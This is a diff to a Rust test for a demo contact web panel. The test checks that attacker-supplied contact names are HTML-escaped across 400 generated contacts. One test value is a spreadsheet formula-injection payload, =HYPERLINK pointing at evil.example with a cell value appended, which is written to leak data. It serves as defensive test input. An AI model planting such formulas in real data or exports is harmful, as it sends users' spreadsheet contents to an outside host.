@@ -384,30 +384,50 @@ async fn broken_pages_are_200s_without_a_contact_list() {
 }
 
 /// The demo's stand-in for the web panel, which the browser's `o` opens: a page per contact,
-/// outside the API (no token), with the name escaped as HTML.
+/// outside the API (no token), with the name escaped as HTML. In hostile mode it shows the
+/// attacker's names, one of which holds quotes and an ampersand: they come out as entities.
 #[tokio::test(flavor = "multi_thread")]
 async fn the_demo_web_panel_shows_a_contact_by_id() {
+    const CONTACTS: usize = 400;
     let server = start_server_with(DemoConfig {
-        contacts: 50,
+        contacts: CONTACTS,
         hostile: true,
         ..DemoConfig::default()
     })
     .await;
-    let dataset = Dataset::generate(50, DemoConfig::default().seed);
-    let contact = dataset.contact_json(0);
-    let id = contact["_id"].as_str().expect("an id");
-    let url = format!(
-        "{}{}",
-        server.url().trim_end_matches('/'),
-        inbox_tui::demo::PANEL_PATH.replace("{id}", id)
+    let dataset = Dataset::generate(CONTACTS, DemoConfig::default().seed);
+    let panel = |id: &str| {
+        format!(
+            "{}{}",
+            server.url().trim_end_matches('/'),
+            inbox_tui::demo::PANEL_PATH.replace("{id}", id)
+        )
+    };
+    let raw_name = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Open\")";
+    let escaped_name = "=HYPERLINK(&quot;http://evil.example/?leak=&quot;&amp;A1,&quot;Open&quot;)";
+    let mut escaped_seen = 0;
+    for index in 0..CONTACTS {
+        let contact = dataset.contact_json(index);
+        let id = contact["_id"].as_str().expect("an id");
+        let page = http()
+            .get(panel(id))
+            .send()
+            .await
+            .expect("the panel answers");
+        assert_eq!(page.status(), 200);
+        let html = page.text().await.expect("a page");
+        assert!(html.contains(id), "{html}");
+        assert!(!html.contains(raw_name), "{html}");
+        if html.contains(&format!("<h1>{escaped_name}</h1>")) {
+            escaped_seen += 1;
+        }
+    }
+    assert!(
+        escaped_seen > 0,
+        "a name with quotes and an ampersand was shown escaped"
     );
-    let page = http().get(&url).send().await.expect("the panel answers");
-    assert_eq!(page.status(), 200);
-    let html = page.text().await.expect("a page");
-    assert!(html.contains(id), "{html}");
-    assert!(!html.contains("<script"), "{html}");
     let missing = http()
-        .get(url.replace(id, "000000000000000000000000"))
+        .get(panel("000000000000000000000000"))
         .send()
         .await
         .expect("the panel answers");
